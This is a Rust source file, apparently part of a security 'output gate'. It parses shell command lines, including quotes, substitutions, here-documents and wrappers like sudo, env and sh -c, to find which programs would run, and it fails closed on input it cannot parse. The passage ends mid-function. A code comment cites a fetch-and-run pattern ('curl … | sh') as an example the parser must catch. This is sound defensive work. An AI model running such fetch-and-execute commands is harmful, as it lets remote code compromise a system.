//! A shell command-line parser for the output gate.
//!
//! It understands what decides *which programs run and how they connect*:
//! quotes and escapes, `&&` `||` `;` `&` `|` and newlines, `( … )` and
//! `{ …; }` groups, `$( … )`, backticks and `<( … )` (whose inner commands
//! are parsed too), here-documents, redirections, `VAR=x` prefixes, and the
//! wrappers that run another program (`sudo`, `env`, `nohup`, `timeout`,
//! `xargs`, `sh -c '…'`, `eval`, …). It does not expand variables or globs and
//! never executes anything. Anything it cannot parse is an error the gate
//! treats as suspicious (fail closed).

use std::fmt;

/// Bound on nesting (substitutions inside `sh -c` inside …), so hostile input
/// cannot recurse without end.
const MAX_DEPTH: usize = 8;
/// Bound on the command-line length the parser accepts.
pub const MAX_COMMAND_LEN: usize = 256 * 1024;

/// Why a command line could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ShellError {
    UnterminatedQuote(char),
    UnterminatedSubstitution,
    UnbalancedParen,
    TooDeep,
    TooLong(usize),
}

impl fmt::Display for ShellError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::UnterminatedQuote(q) => write!(f, "unterminated {q} quote"),
            Self::UnterminatedSubstitution => f.write_str("unterminated $( … ) or backtick"),
            Self::UnbalancedParen => f.write_str("unbalanced parenthesis"),
            Self::TooDeep => f.write_str("nesting too deep"),
            Self::TooLong(n) => write!(f, "command line is {n} bytes (limit {MAX_COMMAND_LEN})"),
        }
    }
}

impl std::error::Error for ShellError {}

/// How a simple command was reached.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// Written directly on the command line.
    Top,
    /// Inside `$( … )`, backticks or `<( … )`.
    Substitution,
    /// A string run by `sh -c`, `bash -c`, `eval`, …
    ShellString,
}

/// A redirection on a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    pub op: String,
    pub target: String,
    /// The target holds an expansion or substitution (`<<< "$CODE"`).
    pub expands: bool,
}

/// One program run, after wrappers are peeled off.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// The program and its arguments, unquoted.
    pub argv: Vec<String>,
    /// `VAR=value` prefixes (including those given to `env`).
    pub env: Vec<(String, String)>,
    /// Wrappers peeled off, outermost first (`sudo`, `env`, `timeout`, …).
    pub wrappers: Vec<String>,
    pub redirects: Vec<Redirect>,
    /// Index of the pipeline in the line, and of this stage in it.
    pub pipeline: usize,
    pub stage: usize,
    /// Number of stages in its pipeline.
    pub stages: usize,
    pub origin: Origin,
    /// Here-document bodies fed to this command.
    pub heredocs: Vec<String>,
    /// The text it reads on its input where the line spells it out (a
    /// here-document, a here-string, `echo … |`).
    pub stdin: Option<String>,
    /// That text holds expansions the shell makes first (an unquoted
    /// here-document's `$X`, `<<< "$CODE"`, `echo "$CODE" |`): what the
    /// command reads is known only when the line runs.
    pub stdin_expands: bool,
    /// Per word of `argv`: it holds an expansion or a substitution.
    pub expands: Vec<bool>,
    /// What its interpreter code does that the commands it runs do not
    /// show (a command built at run time, decoded text run).
    pub code: crate::code_strings::CodeFacts,
}

impl SimpleCommand {
    /// The program's base name (`/usr/bin/curl` → `curl`).
    pub fn program(&self) -> &str {
        match self.argv.first() {
            // The output of a substitution run as a program.
            Some(p) if p.starts_with("$(") => "$(…)",
            Some(p) => p.rsplit('/').next().unwrap_or(p),
            None => "",
        }
    }
    pub fn args(&self) -> &[String] {
        self.argv.get(1..).unwrap_or(&[])
    }
}

/// A parsed command line: every simple command, in order, including those
/// inside substitutions and shell strings.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CommandLine {
    pub commands: Vec<SimpleCommand>,
}

impl CommandLine {
    /// Commands of one pipeline, in stage order.
    pub fn pipeline(&self, origin_index: usize) -> impl Iterator<Item = &SimpleCommand> {
        self.commands
            .iter()
            .filter(move |c| c.pipeline == origin_index)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    /// A word, and what its spelling says (see [`WordFlags`]).
    Word(String, WordFlags),
    /// `&&`, `||`, `;`, `&`, newline: separates pipelines.
    Sep,
    Pipe,
    /// `(`, `)`, `{`, `}` as group delimiters: treated as separators.
    Group,
    Redir(String),
    /// A here-document's body, and whether the shell expands it (its
    /// delimiter was unquoted and it holds `$…` or a backtick).
    Heredoc(String, bool),
}

/// What a word's spelling says beyond its text.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct WordFlags {
    /// It may be a `NAME=value` assignment (the name part was written
    /// unquoted).
    assignable: bool,
    /// It holds a parameter expansion or a substitution outside single
    /// quotes (`"$CODE"`, `$1`, `$(cat f)`): its text is known only when
    /// the line runs.
    expands: bool,
    /// Written with no quote or escape: only such a word can be a
    /// reserved word (`do`, `then`).
    bare: bool,
}

struct Lexer<'a> {
    chars: Vec<char>,
    pos: usize,
    subs: &'a mut Vec<String>,
}

fn is_meta(c: char) -> bool {
    matches!(c, '|' | '&' | ';' | '(' | ')' | '<' | '>' | '\n')
}

impl<'a> Lexer<'a> {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }
    fn peek_at(&self, off: usize) -> Option<char> {
        self.chars.get(self.pos + off).copied()
    }
    /// Step over `c` if it comes next.
    fn eat(&mut self, c: char) -> bool {
        let next = self.peek() == Some(c);
        if next {
            self.pos += 1;
        }
        next
    }

    /// Copy a quoted run as written, up to and including its closing `q`
    /// (inside double quotes a backslash keeps the next character).
    fn copy_quoted(&mut self, q: char, out: &mut String) -> Result<(), ShellError> {
        loop {
            let Some(n) = self.peek() else {
                return Err(ShellError::UnterminatedQuote(q));
            };
            self.pos += 1;
            out.push(n);
            if n == '\\' && q == '"' {
                if let Some(m) = self.peek() {
                    out.push(m);
                    self.pos += 1;
                }
            } else if n == q {
                return Ok(());
            }
        }
    }

    /// Read a `$( … )` body after the opening `$(` (or `<(`), tracking quotes
    /// and nesting; returns the inner text.
    fn read_paren_body(&mut self) -> Result<String, ShellError> {
        let mut depth = 1usize;
        let mut out = String::new();
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                '\\' => {
                    out.push(c);
                    if let Some(n) = self.peek() {
                        out.push(n);
                        self.pos += 1;
                    }
                }
                '\'' | '"' => {
                    out.push(c);
                    self.copy_quoted(c, &mut out)?;
                }
                '(' => {
                    depth += 1;
                    out.push(c);
                }
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(out);
                    }
                    out.push(c);
                }
                _ => out.push(c),
            }
        }
        Err(ShellError::UnterminatedSubstitution)
    }

    fn read_backtick_body(&mut self) -> Result<String, ShellError> {
        let mut out = String::new();
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                '\\' => {
                    if let Some(n) = self.peek() {
                        out.push(n);
                        self.pos += 1;
                    }
                }
                '`' => return Ok(out),
                _ => out.push(c),
            }
        }
        Err(ShellError::UnterminatedSubstitution)
    }

    fn lex(&mut self) -> Result<Vec<Tok>, ShellError> {
        let mut toks = Vec::new();
        let mut pending_heredocs: Vec<(String, bool, bool)> = Vec::new();
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' => self.pos += 1,
                '\\' if self.peek_at(1) == Some('\n') => self.pos += 2,
                '#' => {
                    // A comment runs to the end of the line.
                    while let Some(n) = self.peek() {
                        if n == '\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                '\n' => {
                    self.pos += 1;
                    toks.push(Tok::Sep);
                    for (delim, strip, bare) in std::mem::take(&mut pending_heredocs) {
                        let body = self.read_heredoc(&delim, strip);
                        let expands = bare && text_expands(&body);
                        toks.push(Tok::Heredoc(body, expands));
                    }
                }
                ';' => {
                    self.pos += 1;
                    self.eat(';');
                    toks.push(Tok::Sep);
                }
                '&' => {
                    self.pos += 1;
                    if self.eat('>') {
                        self.eat('>');
                        toks.push(Tok::Redir("&>".into()));
                    } else {
                        // `&&` or a background `&`: both end a command.
                        self.eat('&');
                        toks.push(Tok::Sep);
                    }
                }
                '|' => {
                    self.pos += 1;
                    if self.eat('|') {
                        toks.push(Tok::Sep);
                    } else {
                        self.eat('&');
                        toks.push(Tok::Pipe);
                    }
                }
                '(' | ')' => {
                    self.pos += 1;
                    toks.push(Tok::Group);
                }
                '<' if self.peek_at(1) == Some('(') => {
                    self.pos += 2;
                    let body = self.read_paren_body()?;
                    self.subs.push(body);
                    toks.push(Tok::Word(
                        "/dev/fd/63".into(),
                        WordFlags {
                            assignable: false,
                            expands: true,
                            bare: false,
                        },
                    ));
                }
                '<' | '>' => {
                    let mut op = String::new();
                    // A leading fd number was lexed as a word already;
                    // the operator is what follows.
                    while let Some(n) = self.peek() {
                        if matches!(n, '<' | '>' | '&' | '|' | '-') && op.len() < 3 {
                            if n == '-' && !op.starts_with("<<") {
                                break;
                            }
                            op.push(n);
                            self.pos += 1;
                        } else {
                            break;
                        }
                    }
                    if op.starts_with("<<<") {
                        toks.push(Tok::Redir("<<<".into()));
                    } else if op.starts_with("<<") {
                        let strip = op.ends_with('-');
                        // The delimiter word follows.
                        while matches!(self.peek(), Some(' ' | '\t')) {
                            self.pos += 1;
                        }
                        let (word, _, flags) = self.word()?;
                        pending_heredocs.push((word, strip, flags.bare));
                    } else {
                        toks.push(Tok::Redir(op));
                    }
                }
                _ => {
                    let (w, is_group, flags) = self.word()?;
                    if is_group {
                        toks.push(Tok::Group);
                    } else {
                        toks.push(Tok::Word(w, flags));
                    }
                }
            }
        }
        Ok(toks)
    }

    fn read_heredoc(&mut self, delim: &str, strip: bool) -> String {
        let mut body = String::new();
        loop {
            if self.pos >= self.chars.len() {
                break;
            }
            let mut line = String::new();
            while let Some(c) = self.peek() {
                self.pos += 1;
                if c == '\n' {
                    break;
                }
                line.push(c);
            }
            let cmp = if strip {
                line.trim_start_matches('\t')
            } else {
                &line
            };
            if cmp == delim {
                break;
            }
            body.push_str(&line);
            body.push('\n');
        }
        body
    }

    /// One word; returns `(text, is_group_brace, flags)`.
    fn word(&mut self) -> Result<(String, bool, WordFlags), ShellError> {
        let mut out = String::new();
        let start = self.pos;
        let mut expands = false;
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' => break,
                c if is_meta(c) => break,
                '\\' => {
                    self.pos += 1;
                    if let Some(n) = self.peek() {
                        if n != '\n' {
                            out.push(n);
                        }
                        self.pos += 1;
                    }
                }
                '\'' => {
                    self.pos += 1;
                    loop {
                        let Some(n) = self.peek() else {
                            return Err(ShellError::UnterminatedQuote('\''));
                        };
                        self.pos += 1;
                        if n == '\'' {
                            break;
                        }
                        out.push(n);
                    }
                }
                '"' => {
                    self.pos += 1;
                    loop {
                        let Some(n) = self.peek() else {
                            return Err(ShellError::UnterminatedQuote('"'));
                        };
                        self.pos += 1;
                        match n {
                            '"' => break,
                            '\\' => {
                                if let Some(m) = self.peek() {
                                    if !matches!(m, '"' | '\\' | '$' | '`' | '\n') {
                                        out.push('\\');
                                    }
                                    if m != '\n' {
                                        out.push(m);
                                    }
                                    self.pos += 1;
                                }
                            }
                            '$' if self.peek() == Some('(') => {
                                self.pos += 1;
                                expands = true;
                                let body = self.read_paren_body()?;
                                out.push_str("$(");
                                out.push_str(&body);
                                out.push(')');
                                self.subs.push(body);
                            }
                            '$' if self.peek().is_some_and(expansion_start) => {
                                expands = true;
                                out.push('$');
                            }
                            '`' => {
                                expands = true;
                                let body = self.read_backtick_body()?;
                                out.push_str("$(");
                                out.push_str(&body);
                                out.push(')');
                                self.subs.push(body);
                            }
                            _ => out.push(n),
                        }
                    }
                }
                '$' if self.peek_at(1) == Some('(') => {
                    self.pos += 2;
                    expands = true;
                    if self.peek() == Some('(') {
                        // Arithmetic `$(( … ))`: not a command.
                        self.pos += 1;
                        let body = self.read_paren_body()?;
                        if self.peek() == Some(')') {
                            self.pos += 1;
                        }
                        out.push_str("$((");
                        out.push_str(&body);
                        out.push_str("))");
                    } else {
                        let body = self.read_paren_body()?;
                        out.push_str("$(");
                        out.push_str(&body);
                        out.push(')');
                        self.subs.push(body);
                    }
                }
                '`' => {
                    self.pos += 1;
                    expands = true;
                    let body = self.read_backtick_body()?;
                    out.push_str("$(");
                    out.push_str(&body);
                    out.push(')');
                    self.subs.push(body);
                }
                _ => {
                    expands |= c == '$' && self.peek_at(1).is_some_and(expansion_start);
                    out.push(c);
                    self.pos += 1;
                }
            }
        }
        let raw: String = self.chars[start..self.pos].iter().collect();
        let group = raw == "{" || raw == "}";
        let assignable = raw.split_once('=').is_some_and(|(k, _)| {
            !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        let bare = raw == out;
        Ok((
            out,
            group,
            WordFlags {
                assignable,
                expands,
                bare,
            },
        ))
    }
}

/// Whether text the shell expands (an unquoted here-document) holds an
/// expansion or a substitution.
fn text_expands(text: &str) -> bool {
    text.contains('`')
        || text.match_indices('$').any(|(i, _)| {
            text[i + 1..]
                .chars()
                .next()
                .is_some_and(|c| c == '(' || expansion_start(c))
        })
}

/// Whether `c` after a `$` starts a parameter expansion (`$NAME`,
/// `${…}`, `$1`, `$@`, …).
fn expansion_start(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '_' | '{' | '@' | '*' | '#' | '?' | '$' | '!' | '-')
}

/// Programs that run their arguments as another command, and how many of
/// their own option words to skip.
fn peel_wrapper(argv: &[String], env: &mut Vec<(String, String)>) -> Option<(String, usize)> {
    let prog = argv.first()?;
    let base = prog.rsplit('/').next().unwrap_or(prog);
    let mut i = 1;
    let takes_value = |opt: &str, with: &[&str]| with.contains(&opt);
    match base {
        "sudo" | "doas" => {
            i = skip_options(
                argv,
                i,
                &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
            );
            // `sudo VAR=value cmd` sets VAR for cmd.
            while let Some((k, v)) = argv.get(i).and_then(|a| assignment(a)) {
                env.push((k, v));
                i += 1;
            }
        }
        "env" => match env_line(argv) {
            EnvLine::Runs { at, assigned } => {
                env.extend(assigned);
                i = at;
            }
            EnvLine::Split(_) | EnvLine::Lists | EnvLine::NotUnderstood => return None,
        },
        // `busybox sh -c …` runs the applet it names.
        "busybox" | "toybox" if argv.get(1).is_some_and(|a| !a.starts_with('-')) => {}
        "nohup" | "time" | "exec" | "command" | "builtin" | "setsid" | "chronic" | "unbuffer" => {
            while let Some(a) = argv.get(i).filter(|a| a.starts_with('-')) {
                // `exec -a NAME CMD`: NAME is the process's name, not the
                // program (also bundled: `-ca NAME`).
                i += if base == "exec" && !a.starts_with("--") && a.ends_with('a') {
                    2
                } else {
                    1
                };
            }
        }
        // `jbang [run] [opts] SCRIPT|URL`: the script (a URL is fetched).
        "jbang" => {
            if argv.get(1).is_some_and(|a| a == "run") {
                i = 2;
            }
            i = skip_options(
                argv,
                i,
                &[
                    "--deps",
                    "--repos",
                    "--cp",
                    "--class-path",
                    "-D",
                    "--java",
                    "--main",
                    "-m",
                ],
            );
        }
        "nice" | "ionice" | "stdbuf" | "taskset" | "chrt" => {
            while let Some(a) = argv.get(i) {
                if !a.starts_with('-') {
                    if base == "taskset" || base == "chrt" {
                        i += 1; // the mask / priority
                    }
                    break;
                }
                // Each program's own options with a value: taskset's `-c`
                // and `-p`, chrt's `-i`/`-o`/`-b`/`-f`/`-r` are switches
                // (the mask or the priority follows as a word).
                let valued: &[&str] = match base {
                    "nice" => &["-n"],
                    "ionice" => &["-c", "-n", "-p", "-P", "-u"],
                    "stdbuf" => &["-i", "-o", "-e"],
                    "chrt" => &["-T", "-P", "-D"],
                    _ => &[],
                };
                i += if takes_value(a, valued) { 2 } else { 1 };
            }
        }
        "timeout" => {
            while let Some(a) = argv.get(i) {
                if !a.starts_with('-') {
                    i += 1; // the duration
                    break;
                }
                i += if takes_value(a, &["-s", "-k", "--signal", "--kill-after"]) {
                    2
                } else {
                    1
                };
            }
        }
        "xargs" => {
            while let Some(a) = argv.get(i) {
                if !a.starts_with('-') {
                    break;
                }
                i += if takes_value(a, &["-I", "-n", "-P", "-L", "-d", "-E", "-s", "-a"]) {
                    2
                } else {
                    1
                };
            }
        }
        // Project runners: `uv run python -c …` runs python.
        "uv" | "poetry" | "pipenv" | "pdm" | "rye" | "hatch" | "conda"
            if argv.get(1).is_some_and(|a| a == "run") =>
        {
            i = skip_options(
                argv,
                2,
                &[
                    "--with",
                    "-w",
                    "-p",
                    "--python",
                    "--directory",
                    "--project",
                    "--env-file",
                    "--extra",
                    "--group",
                    "--package",
                    "-n",
                    "--name",
                    "--prefix",
                    "-e",
                    "--env",
                ],
            );
        }
        // Tracers, sandboxes and re-rooters run the program they are given.
        "strace" => {
            i = skip_options(
                argv,
                i,
                &[
                    "-o", "-e", "-p", "-s", "-u", "-E", "-a", "-I", "-O", "-P", "-S", "-X", "-b",
                ],
            );
        }
        "ltrace" => {
            i = skip_options(
                argv,
                i,
                &[
                    "-o", "-e", "-p", "-s", "-u", "-a", "-l", "-n", "-x", "-L", "-F", "-A", "-D",
                ],
            );
        }
        "valgrind" | "unshare" | "firejail" | "catchsegv" | "dbus-run-session" => {
            i = skip_options(argv, i, &[]);
        }
        "runuser" => i = skip_options(argv, i, &["-u", "-g", "-G", "-s", "-w"]),
        "nsenter" => i = skip_options(argv, i, &["-t", "-S", "-G", "-r", "-w"]),
        "proxychains" | "proxychains4" => i = skip_options(argv, i, &["-f"]),
        "torsocks" => i = skip_options(argv, i, &["-u", "-p", "-a", "-P"]),
        "xvfb-run" => i = skip_options(argv, i, &["-n", "-s", "-f", "-e", "-p", "-w"]),
        "systemd-run" => {
            i = skip_options(
                argv,
                i,
                &[
                    "-p",
                    "-E",
                    "-u",
                    "-M",
                    "-H",
                    "--unit",
                    "--property",
                    "--setenv",
                    "--uid",
                    "--gid",
                    "--slice",
                    "--description",
                ],
            )
        }
        // `chroot DIR CMD`, `faketime SPEC CMD`: one word before the command.
        "chroot" | "faketime" => i = skip_options(argv, i, &["-f"]) + 1,
        _ => return None,
    }
    if i >= argv.len() {
        return None;
    }
    Some((base.to_string(), i))
}

/// What an `env` command line does, from one reading of its options.
#[derive(Debug, PartialEq, Eq)]
enum EnvLine {
    /// Runs the command at `at` with the `assigned` variables.
    Runs {
        at: usize,
        assigned: Vec<(String, String)>,
    },
    /// `-S STRING` (`--split-string`): STRING split into words (quotes
    /// honoured) is env's own argument list, what follows it appended. It
    /// is returned as the shell string `env STRING…`, so the options and
    /// command it holds are read the same way.
    Split(String),
    /// No command: env prints the environment.
    Lists,
    /// An option env's reading here does not know: what runs cannot be
    /// known, so the line is unresolved.
    NotUnderstood,
}

/// Reads `env`'s options (GNU spelling): short flags bundle (`-iS STR`,
/// `-uNAME`), a value-taking flag takes the rest of its bundle or the next
/// word, and long options must be spelled out in full.
fn env_line(argv: &[String]) -> EnvLine {
    let mut i = 1;
    let split = |string: &str, rest: &[String]| {
        let mut line = format!("env {string}");
        if !rest.is_empty() {
            line.push(' ');
            line.push_str(&compass_core::shell_quote::quote_argv(rest));
        }
        EnvLine::Split(line)
    };
    while let Some(a) = argv.get(i) {
        if a == "--" {
            i += 1;
            break;
        }
        if a == "-" {
            i += 1; // `-` is `-i`
            continue;
        }
        if let Some(long) = a.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (long, None),
            };
            match name {
                "ignore-environment" | "null" | "debug" | "list-signal-handling"
                    if value.is_none() =>
                {
                    i += 1;
                }
                // An optional signal list, attached with `=` only.
                "default-signal" | "ignore-signal" | "block-signal" => i += 1,
                "unset" | "chdir" | "argv0" => i += if value.is_some() { 1 } else { 2 },
                "split-string" => {
                    return match value {
                        Some(v) => split(v, argv.get(i + 1..).unwrap_or_default()),
                        None => match argv.get(i + 1) {
                            Some(v) => split(v, argv.get(i + 2..).unwrap_or_default()),
                            None => EnvLine::NotUnderstood,
                        },
                    };
                }
                _ => return EnvLine::NotUnderstood,
            }
            continue;
        }
        let Some(flags) = a.strip_prefix('-') else {
            break;
        };
        let mut next = i + 1;
        for (at, flag) in flags.char_indices() {
            match flag {
                'i' | '0' | 'v' => {}
                'u' | 'C' | 'a' | 'S' => {
                    let attached = &flags[at + flag.len_utf8()..];
                    let (value, after) = if attached.is_empty() {
                        (argv.get(i + 1).map(String::as_str), i + 2)
                    } else {
                        (Some(attached), i + 1)
                    };
                    let Some(value) = value else {
                        return EnvLine::NotUnderstood;
                    };
                    if flag == 'S' {
                        return split(value, argv.get(after..).unwrap_or_default());
                    }
                    next = after;
                    break;
                }
                _ => return EnvLine::NotUnderstood,
            }
        }
        i = next;
    }
    let mut assigned = Vec::new();
    while let Some((k, v)) = argv.get(i).and_then(|a| assignment(a)) {
        assigned.push((k, v));
        i += 1;
    }
    if i >= argv.len() {
        EnvLine::Lists
    } else {
        EnvLine::Runs { at: i, assigned }
    }
}

/// The index of the first word after the options from `i` on (`--` ends
/// them; `with_value` take the next word as theirs).
fn skip_options(argv: &[String], mut i: usize, with_value: &[&str]) -> usize {
    while let Some(a) = argv.get(i) {
        if a == "--" {
            return i + 1;
        }
        if !a.starts_with('-') {
            break;
        }
        i += if with_value.contains(&a.as_str()) {
            2
        } else {
            1
        };
    }
    i
}

fn assignment(word: &str) -> Option<(String, String)> {
    let (k, v) = word.split_once('=')?;
    let mut chars = k.chars();
    let first = chars.next()?;
    if !(first.is_ascii_alphabetic() || first == '_') {
        return None;
    }
    if !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    Some((k.to_string(), v.to_string()))
}

/// Shell options that take the next word as their value.
const SHELL_VALUE_OPTIONS: &[&str] = &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"];

/// The script a shell or interpreter command line names (its first word
/// that is no option, options' values skipped), if any.
pub fn script_arg(argv: &[String]) -> Option<&str> {
    let mut i = 1;
    while let Some(a) = argv.get(i) {
        if a == "--" {
            return argv.get(i + 1).map(String::as_str);
        }
        if a == "-" || !(a.starts_with('-') || a.starts_with('+')) {
            return Some(a);
        }
        i += if SHELL_VALUE_OPTIONS.contains(&a.as_str()) {
            2
        } else {
            1
        };
    }
    None
}

/// Reserved words after which a command follows.
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "do", "while", "until", "!", "time",
];
/// Words that open a header running no command (`for x in …`, `case … in`,
/// `function f`).
const HEADERS: &[&str] = &["for", "select", "case", "function"];
/// Variables whose value is the environment's, not code: an expansion of
/// them in interpreter code leaves it as written.
const ENVIRONMENT_NAMES: &[&str] = &[
    "HOME", "PWD", "OLDPWD", "USER", "LOGNAME", "TMPDIR", "SHELL", "PATH", "HOSTNAME", "LANG",
];

/// `word` with the expansions of `assigned` names put in; `None` when it
/// holds any other expansion or substitution (its text is not known).
fn expand_known(word: &str, assigned: &[(String, String)]) -> Option<String> {
    let mut out = String::new();
    let mut rest = word;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (name, used) = if let Some(braced) = after.strip_prefix('{') {
            let end = braced.find('}')?;
            (&braced[..end], end + 2)
        } else {
            let end = after
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(after.len());
            (&after[..end], end)
        };
        let named = !name.is_empty()
            && name
                .chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        if !named {
            return None;
        }
        match assigned.iter().rev().find(|(k, _)| k == name) {
            Some((_, v)) => out.push_str(v),
            None if ENVIRONMENT_NAMES.contains(&name) => out.push_str(&rest[at..at + 1 + used]),
            None => return None,
        }
        rest = &after[used..];
    }
    out.push_str(rest);
    Some(out)
}

/// Environment tools whose documented use is `eval "$(TOOL …)"`: what
/// they print is shell settings of their own (an agent socket, a version
/// manager's shims), not text anyone else chose.
const SETUP_EVALS: &[&str] = &[
    "ssh-agent",
    "ssh-agent -s",
    "ssh-agent -c",
    "direnv hook bash",
    "direnv hook zsh",
    "pyenv init -",
    "pyenv init --path",
    "pyenv virtualenv-init -",
    "rbenv init -",
    "nodenv init -",
    "goenv init -",
    "brew shellenv",
    "starship init bash",
    "starship init zsh",
    "zoxide init bash",
    "zoxide init zsh",
    "opam env",
    "fnm env",
    "mise activate bash",
    "mise activate zsh",
    "dircolors",
    "dircolors -b",
];

/// Whether `word` is exactly `$(TOOL …)` of a [`SETUP_EVALS`] form.
fn setup_eval(word: &str) -> bool {
    word.strip_prefix("$(")
        .and_then(|w| w.strip_suffix(')'))
        .is_some_and(|inner| {
            let words: Vec<&str> = inner.split_whitespace().collect();
            SETUP_EVALS.contains(&words.join(" ").as_str())
        })
}

/// The program a built program name resolves to, when the line spells it
/// out: expansions of names the line assigned (the result must be a plain
/// name or path), or `$(command -v NAME)` / `$(which NAME)` /
/// `` `which NAME` `` of a literal name.
fn resolve_program(word: &str, assigned: &[(String, String)]) -> Option<String> {
    let plain = |p: &str| {
        !p.is_empty()
            && p.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | '+'))
    };
    let lookup = word
        .strip_prefix("$(")
        .and_then(|w| w.strip_suffix(')'))
        .or_else(|| word.strip_prefix('`').and_then(|w| w.strip_suffix('`')));
    if let Some(inner) = lookup {
        let words: Vec<&str> = inner.split_whitespace().collect();
        let name = match words.as_slice() {
            ["command", "-v", n] | ["which", n] | ["type", "-P", n] | ["type", "-p", n] => *n,
            _ => return None,
        };
        return plain(name).then(|| name.to_string());
    }
    if word.contains(['`', '(']) {
        return None;
    }
    let value = expand_known(word, assigned)?;
    plain(&value).then_some(value)
}

const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox", "mksh", "oksh", "loksh", "pdksh",
    "yash", "posh", "rbash", "tcsh", "csh",
];

/// Parse a command line into the simple commands it runs.
pub fn parse(line: &str) -> Result<CommandLine, ShellError> {
    if line.len() > MAX_COMMAND_LEN {
        return Err(ShellError::TooLong(line.len()));
    }
    let mut out = CommandLine::default();
    let mut pipeline_counter = 0usize;
    parse_into(line, Origin::Top, 0, &mut out, &mut pipeline_counter)?;
    Ok(out)
}

/// One pipeline stage while grouping: words, redirects, here-documents.
type Stage = (Vec<(String, WordFlags)>, Vec<Redirect>, Vec<(String, bool)>);

fn parse_into(
    line: &str,
    origin: Origin,
    depth: usize,
    out: &mut CommandLine,
    pipeline_counter: &mut usize,
) -> Result<(), ShellError> {
    if depth > MAX_DEPTH {
        return Err(ShellError::TooDeep);
    }
    let mut subs = Vec::new();
    let toks = Lexer {
        chars: line.chars().collect(),
        pos: 0,
        subs: &mut subs,
    }
    .lex()?;

    // Group into pipelines of stages of words.
    let mut pipelines: Vec<Vec<Stage>> = vec![vec![]];
    let mut cur_words: Vec<(String, WordFlags)> = Vec::new();
    let mut cur_redirs: Vec<Redirect> = Vec::new();
    let mut cur_heredocs: Vec<(String, bool)> = Vec::new();
    let mut pending_redir: Option<String> = None;
    let mut last_heredoc_target: Option<(usize, usize)> = None;
    let flush_stage = |pipelines: &mut Vec<Vec<Stage>>,
                       w: &mut Vec<(String, WordFlags)>,
                       r: &mut Vec<Redirect>,
                       h: &mut Vec<(String, bool)>| {
        if (!w.is_empty() || !r.is_empty())
            && let Some(p) = pipelines.last_mut()
        {
            p.push((std::mem::take(w), std::mem::take(r), std::mem::take(h)));
        }
    };
    for t in toks {
        match t {
            Tok::Word(w, flags) => {
                if let Some(op) = pending_redir.take() {
                    cur_redirs.push(Redirect {
                        op,
                        target: w,
                        expands: flags.expands,
                    });
                } else {
                    cur_words.push((w, flags));
                }
            }
            Tok::Redir(op) => {
                // A bare fd number before the operator belongs to it.
                let mut op = op;
                if let Some((last, _)) = cur_words.last()
                    && last.len() <= 2
                    && last.chars().all(|c| c.is_ascii_digit())
                {
                    let fd = cur_words.pop().map(|w| w.0).unwrap_or_default();
                    op = format!("{fd}{op}");
                }
                pending_redir = Some(op);
            }
            Tok::Heredoc(body, expands) => {
                if let Some((p, s)) = last_heredoc_target
                    && let Some(stage) = pipelines.get_mut(p).and_then(|pl| pl.get_mut(s))
                {
                    stage.2.push((body, expands));
                    continue;
                }
                cur_heredocs.push((body, expands));
            }
            Tok::Pipe => {
                flush_stage(
                    &mut pipelines,
                    &mut cur_words,
                    &mut cur_redirs,
                    &mut cur_heredocs,
                );
                pending_redir = None;
            }
            Tok::Sep | Tok::Group => {
                flush_stage(
                    &mut pipelines,
                    &mut cur_words,
                    &mut cur_redirs,
                    &mut cur_heredocs,
                );
                pending_redir = None;
                if pipelines.last().is_some_and(|p| !p.is_empty()) {
                    let p = pipelines.len() - 1;
                    let s = pipelines[p].len().saturating_sub(1);
                    last_heredoc_target = Some((p, s));
                    pipelines.push(vec![]);
                }
            }
        }
    }
    flush_stage(
        &mut pipelines,
        &mut cur_words,
        &mut cur_redirs,
        &mut cur_heredocs,
    );

    // Names this line assigns a value to (`CODE='…'; python3 -c "$CODE"`),
    // in line order: what an expansion of them in interpreter code holds.
    let mut assigned: Vec<(String, String)> = Vec::new();
    for stages in pipelines.into_iter().filter(|p| !p.is_empty()) {
        let pipeline = *pipeline_counter;
        *pipeline_counter += 1;
        let n = stages.len();
        // What `echo`/`printf` in the stage before writes to this one, and
        // whether the shell expanded it.
        let mut piped_text: Option<(String, bool)> = None;
        for (stage, (words, redirects, heredocs)) in stages.into_iter().enumerate() {
            let mut env = Vec::new();
            // Reserved words that open or continue a compound command
            // (`while …; do curl … | sh; done`, `if …; then …`) run what
            // follows them; a loop or `case` header runs nothing itself.
            let mut i = 0;
            while words
                .get(i)
                .is_some_and(|w| w.1.bare && RESERVED.contains(&w.0.as_str()))
            {
                i += 1;
            }
            if words
                .get(i)
                .is_some_and(|w| w.1.bare && HEADERS.contains(&w.0.as_str()))
            {
                continue;
            }
            while let Some((k, v)) = words
                .get(i)
